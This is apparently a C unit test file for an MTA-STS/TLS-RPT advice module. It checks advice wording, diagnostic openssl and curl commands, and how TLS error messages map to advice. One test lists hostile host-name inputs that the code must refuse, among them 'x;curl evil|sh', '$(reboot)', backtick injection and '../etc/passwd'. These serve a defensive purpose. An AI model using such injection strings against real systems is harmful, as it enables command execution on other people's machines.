/*
 * Copyright 2026 the mod_mta_sts authors
 * SPDX-License-Identifier: Apache-2.0
 *
 * core/advice.h: there is advice for everything, it can be shown anywhere, and
 * its commands can be pasted.
 */
#define _POSIX_C_SOURCE 200809L /* popen() */
#include "unit.h"

#include "core/advice.h"

/* Printable, whole sentences, and so many of them. */
static void sentences(const char *name, const char *text, int most)
{
    int count = 0;
    const char *c;

    if (!text || strlen(text) < 10) {
        fail_msg("%s: no text", name);
    }
    for (c = text; *c; c++) {
        if (*c < 0x20 || *c > 0x7e) {
            fail_msg("%s: not printable: %s", name, c);
        }
        if (*c == '.' && (c[1] == ' ' || c[1] == '\0')) {
            count++;
        }
        if (c[0] == ' ' && c[1] == ' ') {
            fail_msg("%s: two blanks: %s", name, c);
        }
    }
    if (c[-1] != '.' || count > most) {
        fail_msg("%s: %d sentences, at most %d: %s", name, count, most, text);
    }
    if (*text < 'A' || *text > 'Z') {
        fail_msg("%s: no capital: %s", name, text);
    }
}

static void paragraphs(const char *name, const char *text)
{
    const char *end;
    int count = 0;

    for (;; text = end + 2) {
        end = strstr(text, "\n\n");
        sentences(name,
                  end ? apr_pstrmemdup(p, text, (size_t)(end - text)) : text,
                  10);
        count++;
        if (!end) {
            break;
        }
    }
    assert_in_range(count, 2, 8);
}

/* Is every word in capitals MX or DOMAIN where the check has one? */
static void placeholders(const char *name, const char *check)
{
    static const char *const words[] = {"MX", "DOMAIN"};
    size_t i;

    if (!strstr(check, "MX") && !strstr(check, "DOMAIN")) {
        fail_msg("%s: nothing to fill in: %s", name, check);
    }
    for (i = 0; i < 2; i++) {
        const char *found = check;

        while ((found = strstr(found, words[i])) != NULL) {
            if ((found > check && (found[-1] == '-' || found[-1] == '/')) ||
                (found[strlen(words[i])] >= 'A' &&
                 found[strlen(words[i])] <= 'z')) {
                fail_msg("%s: part of a word: %s", name, found);
            }
            found += strlen(words[i]);
        }
    }
}

static void each(const tlsrpt_advice_t *advice)
{
    assert_non_null(advice);
    sentences(advice->name, advice->meaning, 1);
    sentences(advice->name, advice->action, 2);
    paragraphs(advice->name, advice->long_text);
    if (advice->check) {
        placeholders(advice->name, advice->check);
    }
}

static void each_result_has_advice(void **state)
{
    int i;

    (void)state;
    for (i = 0; i < TLSRPT_RESULT_COUNT; i++) {
        const tlsrpt_advice_t *advice = tlsrpt_advice((tlsrpt_result_e)i);

        each(advice);
        unit_same("", advice->name, tlsrpt_result_name((tlsrpt_result_e)i));
    }
    assert_ptr_equal(tlsrpt_advice(TLSRPT_RESULT_COUNT),
                     tlsrpt_advice(TLSRPT_RESULT_OTHER));
}

static void each_finding_has_advice(void **state)
{
    static const char *const names[] = {
        "policy-not-seen", "policy-stale",         "mx-not-covered",
        "mx-unseen",       "unexplained-failures", "details-disagree",
        "testing-clean",   "reporter-silent",      "unverified-only",
    };
    int i;

    (void)state;
    assert_int_equal(TLSRPT_FINDING_COUNT, sizeof(names) / sizeof(*names));
    for (i = 0; i < TLSRPT_FINDING_COUNT; i++) {
        const tlsrpt_advice_t *advice =
            tlsrpt_finding_advice((tlsrpt_finding_e)i);

        each(advice);
        unit_same("", advice->name, names[i]);
    }
    assert_non_null(tlsrpt_finding_advice(TLSRPT_FINDING_COUNT));
}

static void each_name_leads_to_its_advice(void **state)
{
    int i;

    (void)state;
    for (i = 0; tlsrpt_advice_name(i); i++) {
        const char *name = tlsrpt_advice_name(i);

        unit_same(name, tlsrpt_advice_by_name(name)->name, name);
    }
    assert_int_equal(i, 11 + 1 + 9);
    assert_null(tlsrpt_advice_name(-1));
    assert_ptr_equal(tlsrpt_advice_by_name("TLSA-Invalid"),
                     tlsrpt_advice(TLSRPT_TLSA_INVALID));
    assert_ptr_equal(tlsrpt_advice_by_name("other"),
                     tlsrpt_advice(TLSRPT_RESULT_OTHER));
    assert_false(tlsrpt_advice_is_finding(tlsrpt_advice_by_name("other")));
    assert_false(tlsrpt_advice_is_finding(tlsrpt_advice_by_name("tlsa-"
                                                                "invalid")));
    assert_true(tlsrpt_advice_is_finding(
        tlsrpt_finding_advice(TLSRPT_POLICY_NOT_SEEN)));
    assert_true(tlsrpt_advice_is_finding(
        tlsrpt_finding_advice(TLSRPT_UNVERIFIED_ONLY)));
    assert_null(tlsrpt_advice_by_name(""));
    assert_null(tlsrpt_advice_by_name("tlsa"));
    assert_null(tlsrpt_advice_by_name("tlsa-invalid "));
}

static void a_text_names_the_domain(void **state)
{
    (void)state;
    unit_same("", tlsrpt_advice_about(p, "See mta-sts.DOMAIN.", "Example.com."),
              "See mta-sts.example.com.");
    unit_same("no name", tlsrpt_advice_about(p, "See DOMAIN.", "a b"),
              "See DOMAIN.");
    unit_same("none", tlsrpt_advice_about(p, "See DOMAIN.", ""), "See DOMAIN.");
    unit_same("no word", tlsrpt_advice_about(p, "See.", "a b"), "See.");
}

static const char *command(tlsrpt_result_e result, const char *mx,
                           const char *domain)
{
    return tlsrpt_advice_command(p, tlsrpt_advice(result), mx, domain);
}

static void a_command_has_the_names_filled_in(void **state)
{
    (void)state;
    unit_same("",
              command(TLSRPT_STARTTLS_NOT_SUPPORTED, "MX2.example.com.", ""),
              "openssl s_client -starttls smtp -connect mx2.example.com:25 "
              "</dev/null");
    unit_same("", command(TLSRPT_STS_POLICY_FETCH_ERROR, "", "example.com"),
              "curl -4sSi "
              "https://mta-sts.example.com/.well-known/mta-sts.txt; curl -6sSi "
              "https://mta-sts.example.com/.well-known/mta-sts.txt");
    assert_null(command(TLSRPT_RESULT_OTHER, "mx.example.com", "example.com"));
    assert_null(command(TLSRPT_STARTTLS_NOT_SUPPORTED, "", "example.com"));
    assert_null(command(TLSRPT_STS_POLICY_FETCH_ERROR, "mx.example.com", ""));
}

static void a_command_has_nothing_but_names_in_it(void **state)
{
    static const char *const hostile[] = {
        "x;curl evil|sh",
        "$(reboot).example.com",
        "`reboot`.example.com",
        "a.example.com\nreboot",
        "a.example.com reboot",
        "-oProxyCommand=x.example.com",
        "--help",
        "a.example.com#",
        "a.example.com&",
        "'a.example.com",
        "\"a.example.com\"",
        "a..example.com",
        "../etc/passwd",
        "192.0.2.1",
        "localhost",
        "*.example.com",
        "b\xc3\xbc.example",
        "\x1b[0m.example.com",
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(hostile) / sizeof(*hostile); i++) {
        unit_same(
            hostile[i],
            command(TLSRPT_CERTIFICATE_EXPIRED, hostile[i], "example.com"),
            NULL);
        unit_same(
            hostile[i],
            command(TLSRPT_STS_POLICY_INVALID, "mx.example.com", hostile[i]),
            NULL);
    }
}

/* A shell reads each without running it. */
static void a_command_is_one_for_a_shell(void **state)
{
    int i;

    (void)state;
    for (i = 0; tlsrpt_advice_name(i); i++) {
        const tlsrpt_advice_t *advice =
            tlsrpt_advice_by_name(tlsrpt_advice_name(i));
        const char *line =
            tlsrpt_advice_command(p, advice, "mx.example.com", "example.com");
        FILE *shell;

        if (!advice->check) {
            assert_null(line);
            continue;
        }
        assert_null(strstr(line, "MX"));
        assert_null(strstr(line, "DOMAIN"));
        shell = popen("sh -n", "w");
        assert_non_null(shell);
        fprintf(shell, "%s\n", line);
        assert_int_equal(pclose(shell), 0);
    }
}

/* What a reason leads to, by a word that only that advice has. */
static void reasons_are_known_by_their_words(void **state)
{
    static const struct {
        const char *reason, *has;
    } cases[] = {
        /* OpenSSL */
        {"X509_V_ERR_CERT_HAS_EXPIRED", "run out"},
        {"certificate has expired", "run out"},
        {"X509_V_ERR_CERT_NOT_YET_VALID", "clock"},
        {"certificate is not yet valid", "clock"},
        {"X509_V_ERR_UNABLE_TO_GET_ISSUER_CERT_LOCALLY", "intermediate"},
        {"unable to get local issuer certificate", "intermediate"},
        {"X509_V_ERR_UNABLE_TO_VERIFY_LEAF_SIGNATURE", "intermediate"},
        {"unable to verify the first certificate", "intermediate"},
        {"X509_V_ERR_DEPTH_ZERO_SELF_SIGNED_CERT", "self-signed"},
        {"self-signed certificate in certificate chain", "self-signed"},
        {"self signed certificate", "self-signed"},
        {"X509_V_ERR_HOSTNAME_MISMATCH", "DNS names"},
        {"hostname mismatch", "DNS names"},
        {"X509_V_ERR_CERT_REVOKED", "revoked"},
        {"X509_V_ERR_PROXY_PATH_LENGTH_EXCEEDED", "wrong kind"},
        {"X509_V_ERR_INVALID_CA", "wrong kind"},
        {"X509_V_ERR_INVALID_PURPOSE", "wrong kind"},
        {"unsuitable certificate purpose", "wrong kind"},
        {"X509_V_ERR_EE_KEY_TOO_SMALL", "too weak"},
        {"CA signature digest algorithm too weak", "too weak"},
        {"X509_V_ERR_DANE_NO_MATCH", "TLSA"},
        {"no matching DANE TLSA records", "TLSA"},
        {"error:0A000410:SSL routines::sslv3 alert handshake failure",
         "handshake"},
        {"error:0A00042E:SSL routines::tlsv1 alert protocol version",
         "version of TLS"},
        {"error:0A000102:SSL routines::unsupported protocol", "version of TLS"},
        {"error:0A00010B:SSL routines::wrong version number", "not TLS"},
        {"error:0A0000C1:SSL routines::no shared cipher", "cipher"},
        {"error:0A000126:SSL routines::unexpected eof while reading", "closed"},
        /* GnuTLS */
        {"The certificate is NOT trusted. The certificate issuer is unknown.",
         "intermediate"},
        {"The certificate is NOT trusted. The certificate chain uses expired "
         "certificate.",
         "run out"},
        {"The name in the certificate does not match the expected.",
         "DNS names"},
        {"The TLS connection was non-properly terminated.", "closed"},
        {"A TLS fatal alert has been received.", "handshake"},
        {"Could not negotiate a supported cipher suite.", "cipher"},
        /* Go */
        {"x509: certificate has expired or is not yet valid: current time "
         "2026-05-01T00:00:00Z is after 2026-04-30T00:00:00Z",
         "run out"},
        {"x509: certificate signed by unknown authority", "intermediate"},
        {"x509: certificate is valid for a.example, not b.example",
         "DNS names"},
        {"x509: certificate relies on legacy Common Name field, use SANs "
         "instead",
         "DNS names"},
        {"tls: first record does not look like a TLS handshake", "not TLS"},
        {"dial tcp: lookup mta-sts.example.com: no such host", "resolved"},
        {"lookup mta-sts.example.com on 192.0.2.53:53: read udp: i/o timeout",
         "resolved"},
        {"Get \"https://mta-sts.example.com/.well-known/mta-sts.txt\": context "
         "deadline exceeded",
         "in time"},
        {"dial tcp 192.0.2.1:443: connect: connection refused", "listens"},
        {"dial tcp [2001:db8::1]:443: connect: network is unreachable",
         "no way"},
        {"read: connection reset by peer", "closed"},
        /* Java, .NET, rustls */
        {"PKIX path building failed: unable to find valid certification path "
         "to requested target",
         "intermediate"},
        {"java.security.cert.CertificateExpiredException: NotAfter: Thu Apr "
         "30 2026",
         "run out"},
        {"No subject alternative DNS name matching mx.example.com found.",
         "DNS names"},
        {"java.net.SocketTimeoutException: Read timed out", "in time"},
        {"java.net.UnknownHostException: mta-sts.example.com", "resolved"},
        {"Received fatal alert: handshake_failure", "handshake"},
        {"RemoteCertificateNameMismatch", "DNS names"},
        {"UntrustedRoot", "intermediate"},
        {"invalid peer certificate: UnknownIssuer", "intermediate"},
        {"invalid peer certificate: Expired", "run out"},
        {"invalid peer certificate: NotValidForName", "DNS names"},
        /* HTTP */
        {"bad https response code: 404", "no policy at that path"},
        {"HTTP/1.1 403 Forbidden", "refused to hand"},
        {"bad https response code: 500", "error log"},
        {"http status 301", "redirects"},
        {"too many redirects", "redirects"},
        {"unexpected content-type text/html", "text/plain"},
        /* the policy, DNS, SMTP */
        {"MX host does not match policy", "no mx line"},
        {"mx mismatch", "no mx line"},
        {"host not in policy", "no mx line"},
        /* "does not match" alone is about the policy, but it says least */
        {"does not match", "no mx line"},
        {"Host DOES NOT MATCH.", "no mx line"},
        {"MX host name does not match policy", "no mx line"},
        {"certificate does not match host", "DNS names"},
        {"SSL: certificate subject name 'a.example' does not match target "
         "host name 'b.example'",
         "DNS names"},
        {"hostname does not match", "DNS names"},
        {"common name does not match", "DNS names"},
        {"subject does not match", "DNS names"},
        {"TLSA record does not match", "TLSA"},
        {"DANE: certificate does not match", "TLSA"},
        {"fingerprint does not match", "TLSA"},
        {"content-type does not match text/plain", "text/plain"},
        {"421 4.7.0 greeting does not match", "mail server"},
        {"SERVFAIL", "resolved"},
        {"421 4.7.0 TLS handshake", "mail server"},
        {"454 4.7.0 TLS not available due to local problem", "mail server"},
        {"Server does not support STARTTLS", "STARTTLS"},
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        const char *advice = tlsrpt_reason_advice(cases[i].reason);

        if (!advice) {
            fail_msg("\"%s\": nothing", cases[i].reason);
        }
        sentences(cases[i].reason, advice, 3);
        if (!strstr(advice, cases[i].has)) {
            fail_msg("\"%s\": %s", cases[i].reason, advice);
        }
    }
}

static void a_reason_that_says_nothing_is_left_alone(void **state)
{
    static const char *const cases[] = {
        "",        "unknown",      "STARTTLS", "session 84217",
        "id=4210", "192.0.2.421x", "v14.7.1",  "http",
        "404",     "\xff\x1b",     "mx",
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        unit_same(cases[i], tlsrpt_reason_advice(cases[i]), NULL);
    }
}

int main(void)
{
    PROMISE(each_result_has_advice);
    PROMISE(each_finding_has_advice);
    PROMISE(each_name_leads_to_its_advice);
    PROMISE(a_command_has_the_names_filled_in);
    PROMISE(a_command_has_nothing_but_names_in_it);
    PROMISE(a_command_is_one_for_a_shell);
    PROMISE(reasons_are_known_by_their_words);
    PROMISE(a_text_names_the_domain);
    PROMISE(a_reason_that_says_nothing_is_left_alone);
    return unit_run("advice");
}
